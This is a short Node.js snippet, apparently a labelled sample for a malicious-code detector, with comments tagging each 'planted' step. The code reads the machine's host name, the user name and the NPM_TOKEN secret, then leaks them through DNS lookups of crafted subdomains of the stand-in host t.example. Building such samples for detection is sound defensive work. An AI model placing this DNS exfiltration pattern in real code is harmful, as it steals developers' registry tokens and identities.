// @desc: Host identity and a named secret leaked through DNS lookups of crafted names.
// @obfuscation: exfiltration through a DNS query instead of an HTTP request
const dns = require('dns'); // PLANT: network-builtin
const os = require('os'); // PLANT: os-module
const label = Buffer.from(os.hostname() + ':' + os.userInfo().username).toString('hex');
dns.lookup(label + '.t.example', () => {}); // PLANT: exfiltration-chain
const token = process.env.NPM_TOKEN; // PLANT: process-env
dns.resolve4(`${token}.t.example`, () => {}); // PLANT: exfiltration-chain
